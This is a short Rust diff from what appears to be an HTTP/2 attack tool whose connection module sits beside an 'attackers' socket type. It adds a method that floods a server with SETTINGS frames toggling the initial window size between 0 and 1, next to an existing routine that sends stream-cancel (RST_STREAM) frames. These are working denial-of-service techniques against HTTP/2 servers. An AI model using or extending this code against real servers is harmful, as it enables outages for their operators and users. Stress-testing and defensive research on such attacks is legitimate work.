@@ -10,7 +10,7 @@ use tokio::time::timeout;
 
 use self::frame::{
     ACK, CANCEL, DATA, DEFAULT_WINDOW, END_STREAM, HEAD, INITIAL_WINDOW_SIZE, MAX_PAYLOAD, PING, RST_STREAM, SETTINGS,
-    WINDOW_UPDATE, frame, get, post, preface,
+    WINDOW_UPDATE, frame, get, post, preface, setting,
 };
 use crate::attackers::Socket;
 
@@ -91,6 +91,15 @@ impl Connection {
 
     pub(crate) fn cancel(&mut self, stream: u32) {
         self.output.extend(frame(RST_STREAM, 0, stream, &CANCEL));
+    }
+
+    /// Changes the window of all streams there and back, so often, unless much waits to be written already.
+    pub(crate) fn change_windows(&mut self, times: u32) {
+        if self.output.len() < AHEAD {
+            for value in (0..times).map(|number| number % 2) {
+                self.output.extend(frame(SETTINGS, 0, 0, &setting(INITIAL_WINDOW_SIZE, value)));
+            }
+        }
     }
 
     /// Stays until the server ends the connection, and sends a ping whenever nothing came for so long.
